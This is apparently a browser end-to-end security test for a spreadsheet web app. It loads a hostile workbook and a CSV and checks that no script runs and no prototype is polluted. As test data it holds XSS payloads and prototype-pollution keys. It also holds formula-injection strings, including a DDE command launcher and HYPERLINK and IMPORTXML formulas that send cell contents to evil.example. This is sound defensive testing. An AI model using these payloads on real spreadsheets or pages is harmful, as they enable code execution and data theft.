/** A workbook and a table made to do harm, taken through every view of the built page in Chromium: they stay words. */

import { readFileSync } from "node:fs";
import { blankSheet, type CellData } from "../../src/files/workbook-data";
import { readWorkbook } from "../../src/files/xlsx-read";
import { writeWorkbook } from "../../src/files/xlsx-write";
import { faultsIn } from "../files/structure";
import { fileBarOf } from "./file-bar";
import { answered, checked, insertReport } from "./answers";
import { choosePicture, fromMenu } from "./picture-choice";
import { formulasHere, saveButton } from "./share-view";
import { inChromium, type OpenWorkbook, until } from "./open-workbook";

const chromium = inChromium();
let workbook: OpenWorkbook;
let page: OpenWorkbook["page"];

const IMAGE = '<img src=x onerror="pwned=1">';
const SCRIPT = "<script>pwned=1</script>";
const long = "x".repeat(32_767);
/** What is in cells: as names of links and countries, as headings, as tags, around the table. */
const words = [
  IMAGE,
  SCRIPT,
  "__proto__",
  "constructor",
  '"><svg onload=pwned=1>',
  "javascript:pwned=1",
  "{{pwned=1}}",
  "&lt;b&gt;",
  "toString",
  "hasOwnProperty",
];
const COMMANDS = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '=cmd|"/C calc"!A1',
  "+1+1",
  "-1+1",
  "@SUM(1)",
  '=IMPORTXML("https://evil.example","//a")',
  "[click](https://evil.example)",
  "[click](javascript:pwned=1)",
];

const headers = ["Link", "Country", "Sales (output)", "Inputs bought", IMAGE, "__proto__"];
const rows = words.map((word, index) => [
  word,
  words[(index + 3) % words.length]!,
  100 + 10 * index,
  index === 0 ? 0 : 90 + 10 * index,
  words[(index + 1) % words.length]!,
  1,
]);

function cells(): CellData[] {
  const found: CellData[] = [[IMAGE], [], headers, ...rows].flatMap((line, row) =>
    line.map((value, column) => ({ row, column, value })),
  );
  const below = rows.length + 5;
  COMMANDS.forEach((value, index) => found.push({ row: below + index, column: 0, value }));
  found.push({ row: below, column: 2, value: long });
  found.push({
    row: 3,
    column: 8,
    value: 100,
    formula: "=VC.VALUEADDED(C4:C13,D4:D13)",
    fills: { rows: 10, columns: 1 },
  });
  found.push({ row: 0, column: 8, value: { error: "#VALUE!" }, formula: "=VC.MARGIN(A4,C4)" });
  found.push({ row: 1, column: 8, value: "Link", formula: "=VC.BREAKDOWN(A4:A13,C4:C13,D4:D13)" });
  return found
    .sort((one, other) => one.row - other.row || one.column - other.column)
    .filter(({ row, column }) => !(row === 1 && column === 8));
}

const NAMES = ["__proto__", "constructor", "toString"];
const SHEET_NAMES = ["<img src=x onerror=pwned=1>", "__proto__", "constructor"];

async function hostile(): Promise<Buffer> {
  // Who buys from whom, between countries of the worst names.
  const flows = [
    ["", "", IMAGE, "__proto__", "constructor", IMAGE, "__proto__", "constructor"],
    ...[IMAGE, "__proto__", "constructor"].map((name, row) => [
      name,
      "All",
      ...[0, 1, 2].map((column) => 10 + 3 * row + column),
      ...[0, 1, 2].map((column) => (row === column ? 100 : 5)),
    ]),
  ];
  const sheets = SHEET_NAMES.map((name, index) => ({
    ...blankSheet(name),
    cells:
      index === 0
        ? cells()
        : flows.flatMap((line, row) => line.flatMap((value, column) => (value === "" ? [] : [{ row, column, value }]))),
  }));
  return Buffer.from(
    (await writeWorkbook({ sheets, names: NAMES.map((name) => ({ name, range: "constructor!$A$1" })) }, () => true))
      .file,
  );
}

/** What the page has made of all that: no element, no script run, nobody's prototype changed. */
const harm = () =>
  page.evaluate(() => {
    const made = [
      ...document.querySelectorAll(
        // An image that the page has drawn itself runs nothing that is in it.
        "img:not(.thumbnails img[src^='data:image/svg+xml']), script:not([src]), iframe, object, embed, a[href^='javascript'], [onerror], [onload]",
      ),
    ].map(({ tagName, attributes }) =>
      `${tagName} ${[...attributes].map(({ name, value }) => `${name}=${value}`).join(" ")}`.slice(0, 120),
    );
    return {
      made,
      ran: "pwned" in globalThis,
      stained: Object.keys(Object.prototype).concat(Object.keys(Array.prototype)),
      violations: (globalThis as any).violations as string[],
    };
  });
const none = { made: [] as string[], ran: false, stained: [] as string[], violations: [] as string[] };

beforeEach(async () => {
  workbook = await chromium.open({ acceptDownloads: true, permissions: ["clipboard-read", "clipboard-write"] });
  ({ page } = workbook);
  page.on("dialog", (dialog) => {
    workbook.complaints.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("popup", (popup) => workbook.complaints.push(`a window: ${popup.url()}`));
  await page.evaluate(() => {
    (globalThis as any).violations = [];
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
      (globalThis as any).violations.push(`${violatedDirective} ${blockedURI}`),
    );
  });
  // What the page itself is made of is no harm.
  expect(await harm()).toEqual(none);
});

async function open(name: string, content: Buffer, answer: RegExp): Promise<void> {
  await page.locator("#files input[type=file]").setInputFiles({ name, mimeType: "", buffer: content });
  const dialog = page.getByRole("dialog");
  await dialog.waitFor();
  expect(await harm()).toEqual(none);
  await dialog.getByRole("button", { name: answer }).click();
  await dialog.waitFor({ state: "detached" });
}

const sheets = () =>
  page.evaluate(
    async () =>
      (await (globalThis as any).quasirent.workbook.sheets()).map(({ name }: { name: string }) => name) as string[],
  );

it("a workbook, in every view", async () => {
  await open("<img src=x onerror=pwned=1>.xlsx", await hostile(), /Add as new sheets/);
  await until(async () => (await sheets()).includes("constructor"));
  expect(await sheets()).toEqual(expect.arrayContaining(SHEET_NAMES));
  const there = await workbook.read(`'${SHEET_NAMES[0]!}'!A${rows.length + 6}:A${rows.length + 5 + COMMANDS.length}`);
  // The grid takes the last two for links, of which it shows the words.
  expect(there.texts.map(([text]) => text)).toEqual([...COMMANDS.slice(0, -2), "click", "click"]);
  expect(await harm()).toEqual(none);

  await workbook.select(`'${SHEET_NAMES[0]!}'!A3`);
  const analyse = await answered(workbook);
  expect(await harm()).toEqual(none);
  await insertReport(analyse);
  expect(await harm()).toEqual(none);

  const table = async (view: string) => {
    await workbook.select(`'${SHEET_NAMES[0]!}'!A3`);
    return workbook.view(view);
  };
  const start = await table("Start");
  await start.getByText("Report: VC report").waitFor();

  const check = await table("Check");
  await check.getByText("All tables on this sheet").click();
  await checked(workbook);
  await check
    .getByText(/^Checked: /)
    .first()
    .waitFor();
  expect(await harm()).toEqual(none);

  const pictures = await table("Pictures");
  await pictures.locator("figure svg").waitFor();
  for (const kind of (await pictures.locator("figure").getAttribute("data-offers"))!.split(" ")) {
    await choosePicture(pictures, kind);
    await pictures.locator("figure svg").waitFor();
    // As words, where it has room for them.
    expect(await pictures.locator("figure svg").first().textContent()).toContain("<script>");
    expect({ kind, ...(await harm()) }).toEqual({ kind, ...none });
  }
  await Promise.all([page.waitForEvent("download"), fromMenu(pictures, "Save as…", "SVG, for documents")]);
  await page.waitForTimeout(300);

  await workbook.select("'__proto__'!A1");
  const networks = await workbook.view("Networks");
  await networks.getByRole("button", { name: /^Read/ }).click();
  await page.waitForTimeout(500);
  expect(await harm()).toEqual(none);

  for (const cell of ["I1", "I4", "A3"]) {
    await workbook.select(`'${SHEET_NAMES[0]!}'!${cell}`);
    await workbook.view("Explain");
    await page.waitForTimeout(200);
    expect({ cell, ...(await harm()) }).toEqual({ cell, ...none });
  }

  const share = await table("Share");
  await share.getByLabel("For Excel without Quasirent").check();
  await Promise.all([page.waitForEvent("download"), saveButton(share).click()]);
  await formulasHere(workbook);
  await share.getByText("The whole workbook").first().click();
  await share.getByRole("button", { name: "Values only", exact: true }).click();
  await until(async () => (await sheets()).includes("VC formulas"));
  await share.getByRole("button", { name: "Put formulas back" }).click();
  await until(async () => !(await sheets()).includes("VC formulas"));
  expect(await harm()).toEqual(none);

  // What is kept and what is saved are the same words again.
  await page.locator("#files .state", { hasText: /^Saved/ }).waitFor();
  const [download] = await Promise.all([page.waitForEvent("download"), fileBarOf(page).press("Save as .xlsx")]);
  const file = new Uint8Array(readFileSync(await download.path()));
  expect(await faultsIn(file)).toEqual([]);
  const { workbook: saved } = await readWorkbook(file, () => true);
  const sheet = saved.sheets.find(({ name }) => name === SHEET_NAMES[0])!;
  expect(
    sheet.cells.filter(({ column, row }) => column === 0 && row >= rows.length + 5).map(({ value }) => value),
  ).toEqual(COMMANDS);
  expect(sheet.cells.find(({ value }) => value === long)).toBeDefined();
  expect(sheet.cells.filter(({ formula }) => formula !== undefined && !/^=VC[.]/.test(formula))).toEqual([]);
});

it("a table as text", async () => {
  const quote = (value: unknown) => `"${String(value).replaceAll('"', '""')}"`;
  const csv = [headers, ...rows, ...COMMANDS.map((command) => [command, command, 1, 1, command, 1])]
    .map((line) => line.map(quote).join(","))
    .join("\r\n");
  const before = (await sheets()).length;
  await open(`${IMAGE}.csv`, Buffer.from(csv), /Add as new sheet/);
  await until(async () => (await sheets()).length > before);
  const name = (await sheets()).at(-1)!;
  expect(name).not.toMatch(/[[\]:*?/\\]/);
  const { texts } = await workbook.read(`'${name}'!A1:A${rows.length + COMMANDS.length + 1}`);
  expect(texts.map(([text]) => text)).toEqual(["Link", ...words, ...COMMANDS.slice(0, -2), "click", "click"]);
  await workbook.select(`'${name}'!A1`);
  for (const view of ["Analyse", "Check", "Pictures", "Explain", "Share"]) {
    const panel = await workbook.view(view);
    for (const button of await panel.getByRole("button", { name: /^(Read|Check|Find)/ }).all()) await button.click();
    await page.waitForTimeout(300);
    expect({ view, ...(await harm()) }).toEqual({ view, ...none });
  }
});
